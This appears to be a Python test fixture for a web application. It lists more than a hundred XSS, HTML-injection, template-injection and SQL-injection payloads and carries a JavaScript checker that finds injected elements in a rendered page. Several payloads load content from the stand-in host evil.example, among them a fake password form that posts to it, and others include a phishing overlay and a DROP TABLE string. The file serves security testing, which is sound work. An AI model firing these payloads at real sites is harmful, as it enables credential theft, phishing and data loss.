"""More than a hundred texts that hurt wherever one of them is written into a page unescaped.

`MARKUP` is of the kind that becomes an element between two others, `ATTRIBUTES` of the kind that leaves a
quoted attribute, `WORDS` of the kind that something else than a browser would read: a template, Markdown, an
old decoder. Each that becomes an element leaves `xss` in the name or an attribute of it, or in its script or
style, whether or not anything of it runs: `INJECTED` finds that in a page.
"""

EVIL = "//evil.example"

MARKUP = (
    "<b id=xss>",
    "<i xss>",
    "<p/xss",
    "<xss-a>",
    "<xss-a/>",
    "<u xss>x</u>",
    "</p><s xss>",
    "<script>xss=1</script>",
    "<script>window.__xss=1</script>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "<script/x>window.__xss=1</script/x>",
    "<script\n>window.__xss=1</script\t>",
    "<<script>window.__xss=1//<</script>",
    "<script>window.__xss=1",
    f"<script src={EVIL}/xss.js></script>",
    '<script src="data:text/javascript,window.__xss=1"></script>',
    "<script type=module>window.__xss=1</script>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><script>window.__xss&#61;1</script></svg>",
    '<svg><script href="data:,window.__xss=1"/></svg>',
    "<img src=x onerror=xss>",
    "<img src=x onerror=window.__xss=1>",
    '<img src="x" onerror="window.__xss=1">',
    "<IMG SRC=x ONERROR=window.__xss=1>",
    "<img/src=x/onerror=window.__xss=1>",
    "<img src=x onerror=&#119;indow.__xss=1>",
    "<img src=x:x onerror=\u0020window.__xss=1 ",
    "<img src=`x` onerror=window.__xss=1>",
    f"<img src={EVIL}/xss.gif>",
    f'<img srcset="{EVIL}/xss.gif 1x">',
    f"<picture><source srcset={EVIL}/xss><img></picture>",
    "<image src=x onerror=window.__xss=1>",
    "<svg onload=xss>",
    "<svg/onload=window.__xss=1>",
    "<svg><g/onload=window.__xss=1></g></svg>",
    '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s></svg>',
    '<svg><a xlink:href="javascript:window.__xss=1"><text y=20>点这里</text></a></svg>',
    f'<svg><use href="{EVIL}/xss.svg#x"/></svg>',
    f'<svg><image href="{EVIL}/xss.png"/></svg>',
    "<svg><style>*{background:url(//evil.example/xss)}</style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=xss&gt;\" xss>",
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
    "<listing>&lt;img src=x onerror=xss&gt;</listing><b xss>",
    "<iframe src=javascript:xss></iframe>",
    '<iframe src="javascript:parent.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "<iframe srcdoc='&lt;img src=x onerror=parent.__xss=1&gt;'></iframe>",
    f'<iframe src="{EVIL}/xss"></iframe>',
    f'<object data="{EVIL}/xss.swf"></object>',
    '<object data="data:text/html,<script>parent.__xss=1</script>"></object>',
    f'<embed src="{EVIL}/xss">',
    f"<base href={EVIL}/xss/>",
    f"<meta http-equiv=refresh content=0;url={EVIL}/ id=xss>",
    '<meta http-equiv="Content-Security-Policy" content="default-src" id=xss>',
    f'<link rel=stylesheet href="{EVIL}/xss.css">',
    f'<link rel=prefetch href="{EVIL}/xss">',
    f"<form action={EVIL}/xss><input name=password><button>登录</button></form>",
    f'<button form=x formaction="{EVIL}/xss">提交</button>',
    '<button formaction="javascript:window.__xss=1">提交</button>',
    "<isindex action=javascript:window.__xss=1 type=image>",
    "<input autofocus onfocus=window.__xss=1>",
    "<textarea autofocus onfocus=xss>",
    "</textarea><img src=x onerror=window.__xss=1>",
    "</title><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "</style><img src=x onerror=window.__xss=1>",
    "--><img src=x onerror=window.__xss=1>",
    "<!--><img src=x onerror=window.__xss=1>-->",
    "<![CDATA[<b xss>]]>",
    "<![CDATA[]]><script>window.__xss=1</script>",
    "<?xml version=\"1.0\"?><b xss>",
    "<style>@import '//evil.example/xss.css';</style>",
    "<style>body{background:url(//evil.example/xss)}</style>",
    f'<div style="background:url({EVIL}/xss)">',
    '<div style="position:fixed;inset:0" id=xss>请重新登录</div>',
    "<template><script>window.__xss=1</script></template>",
    "<template shadowrootmode=open><b xss></template>",
    "<details open ontoggle=window.__xss=1>",
    "<video src=x onerror=window.__xss=1></video>",
    "<audio src onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>",
    "<body onload=window.__xss=1><b xss>",
    '<a href="javascript:window.__xss=1">详情</a>',
    "<a href=\"java\tscript:window.__xss=1\">详情</a>",
    "<a href=\"&#1;java&Tab;script&colon;window.__xss=1\">详情</a>",
    '<a href="data:text/html,<script>window.__xss=1</script>">详情</a>',
    '<b hx-get="//evil.example/xss" hx-trigger="load">',
    '<b hx-on::load="window.__xss=1" hx-trigger=load>',
    '<b data-hx-get="/console/logout?xss" data-hx-trigger="load">',
    "<b id=lines class=xss data-part='#xss' data-copy='#xss'>",
    "<scr\x00ipt>window.__xss=1</scr\x00ipt><b xss>",
    "<\u200bimg src=x><img src=x onerror=window.__xss=1>",
)  # fmt: skip
ATTRIBUTES = (
    '" onfocus=xss x="',
    '" autofocus onfocus="window.__xss=1',
    '"><img src=x onerror=window.__xss=1>',
    "' autofocus onfocus='window.__xss=1",
    "'><svg onload=window.__xss=1>",
)
WORDS = (
    "{{1337*7331}}",
    "{% raw %}{{ x.__class__.__mro__ }}{% endraw %}{{1337*7331}}",
    "${1337*7331} #{1337*7331} <%= 1337*7331 %> *{1337*7331}",
    "%s %(xss)s %n {0} {name.__class__} $who ${inside}",
    "+ADw-script+AD4-window.__xss+AD0-1+ADw-/script+AD4-",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__xss=1&#62;",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E",
    "\uff1cscript\uff1ewindow.__xss\uff1d1\uff1c/script\uff1e",
    "\u02c2img src=x onerror=window.__xss=1\u02c3",
    "[详情](javascript:window.__xss=1) ![x](//evil.example/xss.png)",
    "[x]: <javascript:window.__xss=1> \"xss\"\n[x]",
    "`<b>` ~~~ <https://evil.example/xss> https://evil.example/xss",
    "\u202e<!-- txet siht sdaer ydobon \u2066 \u2069 \u202c",
    "'; DROP TABLE member; -- ') OR 1=1 --",
    "]]></Content><MsgType>xss</MsgType>",
    "{\"a\":\"</script>\",\"__proto__\":{\"xss\":1}}",
    "@import url(//evil.example/xss.css); expression(xss)",
    "\ufeff\u0000\u0008\u2028\u2029window.__xss=1",
)  # fmt: skip
ALL = (*MARKUP, *ATTRIBUTES, *WORDS)

# In a page: every element that is there because of one of these, as the start of its markup. What people
# typed stands in these attributes, and behind the account's own address, and nowhere else.
INJECTED = """() => {
  const spoken = ['value', 'title', 'alt', 'placeholder', 'aria-label', 'data-name', 'data-label', 'content',
    'label'];
  const found = [];
  const look = (root) => {
    for (const one of root.querySelectorAll('*')) {
      const plain = (attribute) => spoken.includes(attribute.name) && one.localName !== 'b';
      const isAccount = ({ name, value }) => name === 'href' && value.startsWith('https://mp.weixin.qq.com/s/');
      const words = [...one.attributes].filter((attribute) => !plain(attribute) && !isAccount(attribute));
      const told = [one.localName, ...words.flatMap(({ name, value }) => [name, value])];
      if (/^(script|style)$/.test(one.localName)) told.push(one.textContent);
      if (told.some((text) => /xss/i.test(text))) found.push(one.outerHTML.slice(0, 120));
      if (one.localName === 'template') look(one.content);
      if (one.shadowRoot) look(one.shadowRoot);
    }
  };
  look(document);
  return found;
}"""

# What can be read in a page: its words and what stands in its fields, each run of blanks as one.
READ = """() => [document.documentElement.textContent, ...[...document.querySelectorAll('input, textarea')]
  .map((one) => one.value)].join('\\n').replace(/\\s+/g, ' ')"""


def fitting(most: int, texts: tuple[str, ...] = ALL) -> list[str]:
    """Return those that a field of so many characters takes."""
    return [text for text in texts if len(text) <= most]
